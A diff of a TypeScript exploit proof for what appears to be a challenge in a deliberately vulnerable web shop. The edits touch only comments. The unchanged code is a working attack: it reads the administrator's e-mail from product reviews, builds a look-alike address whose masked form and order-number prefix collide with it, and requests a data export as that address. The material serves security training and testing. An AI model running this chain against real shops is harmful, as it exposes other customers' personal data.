@@ -7,7 +7,7 @@ import { challenge } from './challenge.ts'
 const PASSWORD = 'a ripe password'
 const VOWEL = /[aeiou]/gi
 
-/** Registers an account with a chosen e-mail and signs in; the headers of its calls. */
+/** Registers an account with a chosen e-mail, logs in and returns the headers of its session. */
 async function register(attacker: Attacker, email: string) {
   expectStatus(await attacker.post('/api/Users', { email, password: PASSWORD, passwordRepeat: PASSWORD }), 201)
   return signIn(attacker, email, PASSWORD)
@@ -24,12 +24,12 @@ async function exportAs(attacker: Attacker, email: string, body: object = { form
   expectStatus(await attacker.post('/rest/user/data-export', body, request), 200)
 }
 
-/** A near miss that never got as far as it says would prove nothing. */
+/** Makes sure that setup requests succeed: a near miss whose setup failed would prove nothing. */
 function expectStatus({ status, text }: ClientResponse, expected: number) {
   if (status !== expected) throw new Error(`The shop answered ${status}: ${text}`)
 }
 
-/** Orders a piece of product 2 as a new customer. */
+/** Orders one item of product 2 as a new customer. */
 async function order(attacker: Attacker): Promise<{ orderId: string; email: string }> {
   const { basketId, email } = await attacker.becomeCustomer()
   await attacker.post('/api/BasketItems', { ProductId: 2, BasketId: basketId, quantity: 1 })
@@ -38,10 +38,10 @@ async function order(attacker: Attacker): Promise<{ orderId: string; email: stri
   return { orderId: placed.json().orderConfirmation, email }
 }
 
-/** An address that has the same mask. */
+/** Returns a different address with the same mask. */
 const otherVowels = (text: string) => text.replace(VOWEL, (vowel) => (vowel === 'o' ? 'u' : 'o'))
 
-/** The address of the admin, which stands under the review of product 2. */
+/** Returns the administrator's address, shown as author of a review of product 2. */
 async function victim(attacker: Attacker): Promise<string> {
   const { data } = (await attacker.get('/rest/products/2/reviews')).json()
   return data.map(({ author }: { author: string }) => author).find((author: string) => author.startsWith('admin@'))
@@ -49,7 +49,7 @@ async function victim(attacker: Attacker): Promise<string> {
 
 const digits = (email: string) => createHash('md5').update(email).digest('hex').slice(0, 4)
 
-/** Another address with the same mask for which order numbers begin with the same four digits. */
+/** Returns another address with the same mask and the same four-digit prefix of order numbers. */
 function twinWithSameNumbers(email: string): string {
   const choices = 'aeiouAEIOU*'
   const places = email.match(VOWEL)!.length
@@ -66,7 +66,7 @@ function twinWithSameNumbers(email: string): string {
 }
 
 export const proof = prove(challenge, {
-  // The page of an order that is on its way shows what is left of an e-mail; reviews show whole ones.
+  // The tracking page of an order shows the masked e-mail; reviews show full addresses.
   exploit: async (attacker) => {
     await attacker.get(`/rest/track-order/${(await order(attacker)).orderId}`)
     await exportAs(attacker, (await victim(attacker)).replace('i', 'u'))
